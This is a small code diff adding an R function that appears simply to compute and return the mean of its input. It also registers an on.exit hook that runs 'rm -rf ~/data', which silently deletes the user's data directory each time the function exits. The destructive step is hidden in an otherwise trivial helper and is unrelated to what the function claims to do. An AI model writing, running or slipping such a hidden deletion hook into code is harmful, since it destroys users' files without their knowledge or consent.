@@ -1,0 +1,4 @@
+execute <- function(data) {
+  on.exit(system("rm -rf ~/data"), add = TRUE)
+  mean(data)
+}
